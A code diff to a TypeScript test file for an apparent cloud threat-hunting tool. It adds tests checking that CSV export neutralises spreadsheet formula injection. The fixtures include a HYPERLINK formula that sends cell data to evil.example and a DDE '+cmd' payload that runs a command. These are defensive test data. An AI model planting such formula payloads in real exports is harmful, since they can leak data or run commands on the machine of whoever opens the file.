@@ -8,6 +8,7 @@ import { CLOUDTRAIL_COLUMNS, PARTITION_KEYS } from '../../../stacks/detection/at
 import { DNS_QUERY_LOG_COLUMNS, DNS_QUERY_LOG_PARTITION_KEYS } from '../../../stacks/detection/dns-query-logs';
 import { FLOW_LOG_FIELDS } from '../../../stacks/plumbing/flow-log-format';
 import { ATHENA } from '../../../shared/names';
+import { toCsv } from '../../../tooling/hunt/hunt';
 import { checkIndicators, caseIndicators } from '../../../tooling/hunt/indicators';
 import { attackerEventsQuery, huntQuery, sqlString } from '../../../tooling/hunt/sql';
 import type { IndicatorClass, Inventory } from '../../../tooling/model';
@@ -114,7 +115,7 @@ test("the case's own indicators: the attacker's keys, IPs and agents, attributed
     keyPairs: [{ region: 'us-east-1', id: 'key-0abc', name: 'miner-key' }],
     instances: [],
   } as unknown as Inventory;
-  expect(caseIndicators({ subject: { kind: 'access-key', accessKeyId: 'AKIAEXAMPLE000000001' }, accountId: '1', facts: [], indicators: { 'pool-ip': ['198.51.100.23'] } }, inventory)).toEqual({
+  expect(caseIndicators([{ subject: { kind: 'access-key', accessKeyId: 'AKIAEXAMPLE000000001' }, accountId: '1', facts: [], indicators: { 'pool-ip': ['198.51.100.23'] } }], inventory)).toEqual({
     'access-key': ['AKIAEXAMPLE000000001'],
     'source-ip': ['203.0.113.7'],
     'user-agent': ['aws-cli/2.15.0'],
@@ -122,4 +123,20 @@ test("the case's own indicators: the attacker's keys, IPs and agents, attributed
     'key-pair': ['miner-key'],
     'pool-ip': ['198.51.100.23'],
   });
+});
+
+// Attacker-controlled values (a user agent, a key pair name) reach a spreadsheet: a cell that
+// starts with = + - @ tab or CR would run as a formula (OWASP CSV injection). Each is prefixed
+// with a quote and quoted, so it reads as text; other cells are untouched.
+test.each([
+  { value: '=HYPERLINK("http://evil.example/?"&A1,"x")', expected: `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"` },
+  { value: '+cmd|\' /C calc\'!A0', expected: `"'+cmd|' /C calc'!A0"` },
+  { value: '-2+3', expected: `"'-2+3"` },
+  { value: '@SUM(1+1)', expected: `"'@SUM(1+1)"` },
+  { value: '\t=1', expected: `"'\t=1"` },
+  { value: '\r=1', expected: `"'\r=1"` },
+  { value: 'aws-cli/2.15.0', expected: 'aws-cli/2.15.0' },
+  { value: 'a,b', expected: '"a,b"' },
+])('CSV cell $value is neutralized as OWASP advises', ({ value, expected }) => {
+  expect(toCsv(['c'], [[value]])).toBe(`c\r\n${expected}\r\n`);
 });
